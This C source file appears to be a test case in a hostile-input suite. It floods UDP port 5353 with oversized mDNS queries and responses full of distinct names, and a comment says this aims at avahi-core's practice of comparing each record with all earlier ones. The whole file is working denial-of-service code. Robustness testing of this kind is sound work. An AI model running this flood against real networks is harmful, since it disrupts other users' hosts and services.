#include "mdns.h"

#include <stdio.h>
#include <unistd.h>

// Different names, in pointers to one another as far as that goes.
static void fill(struct mdns_packet *packet, bool is_response, size_t size) {
    unsigned entries = 0;
    mdns_begin(packet, is_response ? mdns_response : 0, (const unsigned[]){0, 0, 0, 0});
    while (packet->size + 40 < size) {
        char name[32];
        snprintf(name, sizeof name, "%05x.local", entries++);
        if (is_response) mdns_record(packet, name, mdns_txt, "\1x", 2);
        else mdns_question(packet, name, mdns_ptr, 1);
    }
    unsigned char *count = packet->bytes + (is_response ? 6 : 4);
    count[0] = (unsigned char)(entries >> 8);
    count[1] = (unsigned char)entries;
}

// avahi-core compares each question, and each record, with all that came before.
void hostile_mdns_large(struct hostile *self) {
    int socket = mdns_socket(self, 5353);
    struct mdns_packet packet;
    static const size_t sizes[] = {1400, 8900, 60000};
    for (unsigned i = 0; !mdns_is_late(self); i++) {
        fill(&packet, i & 1, sizes[i / 2 % 3]);
        mdns_send(self, socket, &packet);
        usleep(2000);
    }
    close(socket);
}
